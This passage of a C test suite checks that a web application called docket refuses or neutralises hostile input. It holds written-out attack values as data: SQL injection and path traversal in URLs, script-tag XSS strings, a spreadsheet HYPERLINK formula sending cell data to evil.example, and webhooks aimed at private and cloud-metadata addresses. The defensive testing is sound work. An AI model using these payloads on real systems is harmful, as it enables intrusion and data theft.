    memset(body + 34, 'p', big);
    h_request(&r, &srv, NULL, "POST", "/signin",
              "application/x-www-form-urlencoded", body, 34 + big, NULL);
    expect_status("10 MB password", r.status, 413, r.body);
    h_resp_free(&r);
    case_end("10 MB password");

    /* Under the body cap the form's field cap answers, fast (no argon2 of
       900 kB) and without a session. */
    case_begin();
    clock_gettime(CLOCK_MONOTONIC, &t0);
    h_request(&r, &srv, NULL, "POST", "/signin",
              "application/x-www-form-urlencoded", body, 34 + mid, NULL);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    expect_status("900 kB password", r.status, 413, r.body);
    assert_null(ci_strstr(r.headers, "Set-Cookie: docket_session"));
    if (t1.tv_sec - t0.tv_sec > 5)
        fail_msg("900 kB password took %lld s",
                 (long long)(t1.tv_sec - t0.tv_sec));
    h_resp_free(&r);
    case_end("900 kB password");
    free(body);
}

/* ---- identifiers in URLs and queries --------------------------------------
 */

static void test_bad_input__urls_and_queries(void **state)
{
    static const struct {
        const char *what, *path;
        int want;
    } cases[] = {
        {"SQL in a request id", "/requests/1%27%20OR%20%271%27=%271", 404},
        {"negative id", "/requests/-1", 404},
        {"huge id", "/requests/99999999999999999999999", 404},
        {"id with a NUL", "/requests/1%00", 404},
        {"API id with text", "/api/v1/requests/1;select", 404},
        {"path traversal to static", "/static/..%2f..%2fetc%2fpasswd", 404},
        {"unknown list status", "/api/v1/requests?status=%27;drop", 422},
    };
    h_resp r;
    char auth[200];
    const char *hdrs[2] = {auth, NULL};

    (void)state;
    snprintf(auth, sizeof auth, "Authorization: Bearer %s", ann_token);
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        case_begin();
        h_request(&r, &srv, &ann, "GET", cases[i].path, NULL, NULL, 0,
                  !strncmp(cases[i].path, "/api/", 5) ? hdrs : NULL);
        expect_status(cases[i].what, r.status, cases[i].want, r.body);
        h_resp_free(&r);
        case_end(cases[i].what);
    }
}

/* Full-text search syntax must never reach FTS5 raw (a syntax error there
 * is a 500): every query is searched as text (200); bytes that are not
 * UTF-8 the API refuses (400), while the page answers 200. */
static void test_bad_input__search_syntax(void **state)
{
    static const struct {
        const char *q;
        long api; /* the page always answers 200 */
    } qs[] = {{"%22", 200},       {"AND", 200},    {"a%20OR", 200},
              {"NEAR(", 200},     {"*", 200},      {"title%3Ax", 200},
              {"%5E", 200},       {"a%20-b", 200}, {"%28%28", 200},
              {"col%3A%22", 200}, {"%27%3B", 200}, {"%E2%80%AE", 200},
              {"%00", 200},       {"%ff%fe", 400}};
    h_resp r;
    char path[128];

    (void)state;
    for (size_t i = 0; i < sizeof qs / sizeof *qs; i++) {
        snprintf(path, sizeof path, "/search?q=%s", qs[i].q);
        case_begin();
        h_get(&r, &srv, &ann, path);
        expect_status(path, r.status, 200, r.body);
        h_resp_free(&r);
        snprintf(path, sizeof path, "/api/v1/search?q=%s", qs[i].q);
        h_get(&r, &srv, &ann, path);
        expect_status(path, r.status, qs[i].api, r.body);
        h_resp_free(&r);
        case_end(path);
    }
}

/* ---- hostile text that is accepted comes out inert ----------------------- */

#define XSS     "\"><script>alert(1)</script><img src=x onerror=alert(2)>"
#define FORMULA "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"

static void expect_inert(const char *what, const char *page)
{
    static const char *const raw[] = {
        "<script>alert", "<img src=x",
        "href=\"javascript:", "src=\"javascript:"};

    for (size_t i = 0; i < sizeof raw / sizeof *raw; i++)
        if (strstr(page, raw[i]))
            fail_msg("%s: \"%s\" came out unescaped", what, raw[i]);
}

/* Every cell of a CSV text that starts with = + - @ is neutralised. */
static void expect_no_formula(const char *what, const char *csv)
{
    const char *p = csv;
    int at_cell = 1, quoted = 0;

    for (; *p; p++) {
        if (at_cell) {
            const char *c = *p == '"' ? p + 1 : p;
            if (*c == '=' || *c == '+' || *c == '@')
                fail_msg("%s: a cell starts with a formula: %.60s", what, p);
            at_cell = 0;
        }
        if (*p == '"')
            quoted = !quoted;
        else if (!quoted && (*p == ',' || *p == '\n'))
            at_cell = 1;
    }
}

static void test_bad_input__hostile_text_is_inert_everywhere(void **state)
{
    static const char *const fields[] = {"title",
                                         "summary",
                                         "consent_note",
                                         "items[0].description",
                                         "items[0].campaign_note",
                                         "items[0].examples",
                                         "items[0].notes",
                                         "items[0].columns[0].description",
                                         "items[0].columns[0].example"};
    char *body = strdup(api_base), *tmp, path[128], *dir = NULL;
    cJSON *j;
    h_resp r;
    long long id, fid;
    char csvfile[800], outdir[700], *out = NULL;
    FILE *f;

    (void)state;
    for (size_t i = 0; i < sizeof fields / sizeof *fields; i++) {
        cJSON *s = cJSON_CreateString(XSS);
        char *v = cJSON_PrintUnformatted(s);
        const char *saved = api_base;
        (void)saved;
        cJSON_Delete(s);
        /* api_with works on api_base: apply edits one after another */
        {
            cJSON *root = cJSON_Parse(body), *node = root;
            char key[64];
            const char *p = fields[i];
            while (strchr(p, '.')) {
                size_t n = strcspn(p, ".[");
                snprintf(key, sizeof key, "%.*s", (int)n, p);
                node = cJSON_GetObjectItem(node, key);
                p += n;
                while (*p == '[') {
                    node =
                        cJSON_GetArrayItem(node, (int)strtol(p + 1, NULL, 10));
                    p = strchr(p, ']') + 1;
                }
                p++;
            }
            cJSON_DeleteItemFromObject(node, p);
            cJSON_AddItemToObject(node, p, cJSON_Parse(v));
            tmp = cJSON_PrintUnformatted(root);
            cJSON_Delete(root);
            free(body);
            body = strdup(tmp);
            cJSON_free(tmp);
        }
        cJSON_free(v);
    }
    tmp = body;
    body = strdup(tmp);
    free(tmp);
    {
        /* consent_note needs consent_related */
        cJSON *root = cJSON_Parse(body);
        cJSON_DeleteItemFromObject(root, "consent_related");
        cJSON_AddTrueToObject(root, "consent_related");
        tmp = cJSON_PrintUnformatted(root);
        cJSON_Delete(root);
        free(body);
        body = strdup(tmp);
        cJSON_free(tmp);
    }
    post_api(&r, body, strlen(body), "application/json");
    expect_status("hostile text in every field", r.status, 201, r.body);
    j = cJSON_Parse(r.body);
    id = (long long)cJSON_GetNumberValue(cJSON_GetObjectItem(j, "id"));
    cJSON_Delete(j);
    h_resp_free(&r);
    free(body);

    body = api_with("title", "\""
                             "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,"
                             "\\\"click\\\")"
                             "\"");
    post_api(&r, body, strlen(body), "application/json");
    expect_status("formula title", r.status, 201, r.body);
    j = cJSON_Parse(r.body);
    fid = (long long)cJSON_GetNumberValue(cJSON_GetObjectItem(j, "id"));
    assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItem(j, "title")),
                        FORMULA);
    cJSON_Delete(j);
    h_resp_free(&r);
    cJSON_free(body);

    snprintf(path, sizeof path, "/requests/%lld", id);
    h_get(&r, &srv, &ann, path);
    expect_status("request page", r.status, 200, NULL);
    expect_inert("request page", r.body);
    assert_non_null(strstr(r.body, "&lt;script&gt;alert(1)&lt;/script&gt;"));
    h_resp_free(&r);
    h_get(&r, &srv, &pat, path);
    expect_inert("request page (pm)", r.body);
    h_resp_free(&r);
    h_get(&r, &srv, &pat, "/requests");
    expect_status("queue", r.status, 200, NULL);
    expect_inert("queue", r.body);
    h_resp_free(&r);
    h_get(&r, &srv, &pat, "/search?q=script");
    expect_inert("search", r.body);
    h_resp_free(&r);
    h_get(&r, &srv, &pat, "/search?q=alert");
    expect_inert("search", r.body);
    h_resp_free(&r);

    h_get(&r, &srv, &pat, "/requests.csv");
    if (r.status == 200) {
        expect_no_formula("/requests.csv", r.body);
        assert_non_null(strstr(r.body, "'=HYPERLINK("));
        snprintf(path, sizeof path, "%lld", fid);
        assert_non_null(strstr(r.body, path));
    }
    h_resp_free(&r);

    /* The registry: a data dictionary with formulas and markup, exported
       as CSV and shown as a table page. */
    snprintf(csvfile, sizeof csvfile, "%s/dict.csv", srv.dir);
    f = fopen(csvfile, "w");
    assert_non_null(f);
    fputs("table,column,type,description,example,runbook\n"
          "hostile_t,member_id,bigint,\"=HYPERLINK(\"\"http://evil.example"
          "\"\",\"\"x\"\")\",+1+2,\"<script>alert(1)</script> "
          "[x](javascript:alert(1))\"\n"
          "hostile_t,tier,string(20),@SUM(A1:A9),-2+3,\n",
          f);
    fclose(f);
    if (h_docket(&srv, NULL, &out, "import", "--instance", "acme-qa", csvfile,
                 NULL) != 0)
        fail_msg("import: %s", out);
    free(out);
    h_get(&r, &srv, &pat, "/tables/acme-qa/hostile_t");
    expect_status("table page", r.status, 200, NULL);
    expect_inert("table page", r.body);
    h_resp_free(&r);
    snprintf(outdir, sizeof outdir, "%s/export", srv.dir);
    if (h_docket(&srv, NULL, &out, "export", "--format", "csv", "--out", outdir,
                 NULL) != 0)
        fail_msg("export: %s", out);
    free(out);
    snprintf(csvfile, sizeof csvfile, "%s/acme-qa.csv", outdir);
    f = fopen(csvfile, "r");
    assert_non_null(f);
    {
        char text[8192];
        size_t n = fread(text, 1, sizeof text - 1, f);
        text[n] = '\0';
        expect_no_formula("docket export --format csv", text);
        assert_non_null(strstr(text, "'=HYPERLINK("));
        assert_non_null(strstr(text, "'@SUM(A1:A9)"));
    }
    fclose(f);
    (void)dir;
}

/* Webhooks to loopback, private and link-local addresses with
 * allow_private off: refused before connecting (the recorded error says
 * so), the delivery is dead, and the request itself was stored. */
static void test_bad_input__webhooks_to_private_addresses(void **state)
{
    static const char cfg[] =
        "max_body = 1000000\n"
        "[notify]\nallow_private = false\nallow_http = true\n"
        "[channel.loop]\ntype = webhook\nurl = http://127.0.0.1:9/hook\n"
        "secret = whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw\n"
        "[channel.lan]\ntype = webhook\nurl = http://10.0.0.1/hook\n"
        "secret = whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw\n"
        "[channel.meta]\ntype = webhook\n"
        "url = http://169.254.169.254/latest/meta-data/\n"
        "secret = whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw\n"
        "[route]\nrequest.submitted = loop, lan, meta\n";
    h_server s2;
    h_resp r;
    char token[128], auth[200];
    const char *hdrs[2] = {auth, NULL};
    int64_t dead = 0;

    (void)state;
    h_server_start(&s2, cfg);
    h_world(&s2, "acme acme-qa ann pat");
    h_token(&s2, "ann@acme.example", "t", token, sizeof token);
    snprintf(auth, sizeof auth, "Authorization: Bearer %s", token);
    h_request(&r, &s2, NULL, "POST", "/api/v1/requests", "application/json",
              api_base, strlen(api_base), hdrs);
    expect_status("submission with private webhooks", r.status, 201, r.body);
    h_resp_free(&r);
    for (int i = 0; i < 200 && dead < 3; i++) {
        usleep(50000);
        dead = h_db_int(&s2, "SELECT count(*) FROM outbox WHERE state = "
                             "'dead' AND last_error LIKE 'refused to "
                             "connect to %private, loopback or link-local%'");
    }
    if (dead != 3) {
        h_server_stop(&s2);
        fail_msg("%lld of 3 private webhooks refused and dead",
                 (long long)dead);
    }
    assert_int_equal(h_db_int(&s2, "SELECT count(*) FROM outbox WHERE "
                                   "last_error LIKE '%10.0.0.1%'"),
                     1);
    assert_int_equal(h_db_int(&s2, "SELECT count(*) FROM outbox WHERE "
                                   "last_error LIKE '%169.254.169.254%'"),
                     1);
    assert_int_equal(h_db_int(&s2, "SELECT count(*) FROM outbox WHERE "
                                   "state = 'delivered'"),
                     0);
    assert_int_equal(h_db_int(&s2, "SELECT count(*) FROM requests"), 1);
    h_server_stop(&s2);
    h_server_cleanup(&s2);
}

static const struct CMUnitTest tests[] = {
    cmocka_unit_test(test_bad_input__http_framing),
    cmocka_unit_test(test_bad_input__body_over_the_cap_refused_unread),
    cmocka_unit_test(test_bad_input__endless_chunked_body),
    cmocka_unit_test(test_bad_input__oversized_headers_and_url),
    cmocka_unit_test(test_bad_input__wrong_content_types),
    cmocka_unit_test(test_bad_input__malformed_multipart),
    cmocka_unit_test(test_bad_input__form_fields),
    cmocka_unit_test(test_bad_input__identifiers),
    cmocka_unit_test(test_bad_input__ten_thousand_columns),
    cmocka_unit_test(test_bad_input__json),
    cmocka_unit_test(test_bad_input__json_nested_100000_deep),
    cmocka_unit_test(test_bad_input__attachments),
    cmocka_unit_test(test_bad_input__huge_passwords),
    cmocka_unit_test(test_bad_input__urls_and_queries),
    cmocka_unit_test(test_bad_input__search_syntax),
    /* these write */
    cmocka_unit_test(test_bad_input__controls_are_accepted),
    cmocka_unit_test(test_bad_input__attachment_names_sanitised),
    cmocka_unit_test(test_bad_input__hostile_text_is_inert_everywhere),
    cmocka_unit_test(test_bad_input__webhooks_to_private_addresses),
};

int main(void)
{
    return cmocka_run_group_tests(tests, up, down);
}
